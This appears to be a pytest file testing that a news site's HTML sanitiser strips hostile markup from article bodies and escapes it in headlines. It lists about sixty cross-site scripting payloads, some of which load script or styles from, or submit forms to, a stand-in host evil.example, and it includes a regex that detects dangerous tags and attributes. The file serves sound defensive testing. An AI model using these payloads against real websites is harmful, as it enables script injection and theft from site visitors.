"""Hostile HTML in the body is removed on save; in the headline it is shown as text."""

import re

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from articles.models import Article
from articles.sanitize import clean_body
from articles.services import save_article

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alert) onerror=eval(src) alt=0>",
    "<img src=javascript:alert(1)>",
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="#" onclick="alert(1)">x</a>',
    '<a href="https://ok.example" onmouseover=alert(1)>x</a>',
    '<a href="https://ok.example" target="_blank">x</a>',
    '<a href="https://ok.example" style="position:fixed;top:0">x</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example"><input name=q><button>Go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<textarea onfocus=alert(1) autofocus>",
    "<select onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<p id="x" class="evil" data-x="1">x</p>',
    "<h1 onclick=alert(1)>x</h1>",
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    '<img src="https://ok.example/a.jpg" srcset="javascript:alert(1) 1x">',
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
    "<xmp><script>alert(1)</script></xmp>",
    "<isindex action=javascript:alert(1) type=image>",
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<frameset onload=alert(1)>",
    '"><script>alert(1)</script>',
    '<a href="//evil.example" rel="opener">x</a>',
    "<keygen autofocus onfocus=alert(1)>",
]

DANGEROUS = re.compile(
    r"<\s*(script|style|iframe|object|embed|svg|math|form|input|textarea|select|button|meta|link|base|"
    r"template|video|audio|details|marquee|body|frameset|xmp|noscript|isindex|keygen|table)\b"
    r"|\son\w+\s*=|javascript:|vbscript:|data:|\sstyle\s*=|\starget\s*=|\ssrcset\s*=|\sclass\s*=",
    re.IGNORECASE,
)


def test_there_are_at_least_fifty_hostile_payloads():
    assert len(set(HOSTILE)) >= 50


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_body_is_made_harmless(payload):
    cleaned = clean_body(f"<p>Before</p>{payload}<p>After</p>")
    assert not DANGEROUS.search(cleaned), cleaned
    assert "Before" in cleaned  # text before the payload survives (an unclosed tag may swallow the rest)


def test_what_a_story_needs_survives():
    html = (
        "<h2>Heading</h2><p>A <strong>bold</strong>, <em>italic</em> and "
        '<a href="https://toyota.example/news" title="Source">linked</a> word.</p>'
        "<ul><li>One</li></ul><ol><li>Two</li></ol><blockquote><p>Quote</p></blockquote>"
        '<figure><img src="https://img.example/a.jpg" alt="A car"><figcaption>Caption</figcaption></figure>'
    )
    cleaned = clean_body(html)
    for fragment in (
        "<h2>",
        "<strong>",
        "<em>",
        'href="https://toyota.example/news"',
        "<ul>",
        "<ol>",
        "<blockquote>",
        "<figure>",
        'alt="A car"',
        "<figcaption>",
    ):
        assert fragment in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_empty_editor_output_is_an_empty_body():
    assert clean_body("<p></p>") == ""
    assert clean_body("  <p><br></p> ") == ""


def test_a_carriage_return_reference_is_stable_when_sanitised_again():
    assert clean_body(":&#xd:") == clean_body(clean_body(":&#xd:")) == ":\n:"


@settings(max_examples=100, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>\"'=/ :;&#xjavascriptonloadimgsvg()")), max_size=80))
def test_no_markup_soup_gets_an_event_handler_or_script_through(soup):
    cleaned = clean_body(soup)
    assert not re.search(r"<\s*script|\son\w+\s*=|javascript:", cleaned, re.IGNORECASE)
    assert clean_body(cleaned) == cleaned  # sanitising is stable


@pytest.mark.parametrize("payload", HOSTILE[:10])
def test_saving_sanitises_the_body_and_keeps_the_headline_as_text(writer, section, payload, client):
    article = Article(headline=payload, body=f"<p>Text</p>{payload}", section=section)
    save_article(article, writer)
    stored = Article.objects.get(pk=article.pk)
    assert stored.headline == payload.strip()  # stored as typed, escaped when shown
    assert not DANGEROUS.search(stored.body)
    assert stored.revisions.get().snapshot["body"] == stored.body

    client.force_login(writer)
    page = client.get(f"/admin/articles/article/{article.pk}/change/").content.decode()
    assert payload not in page
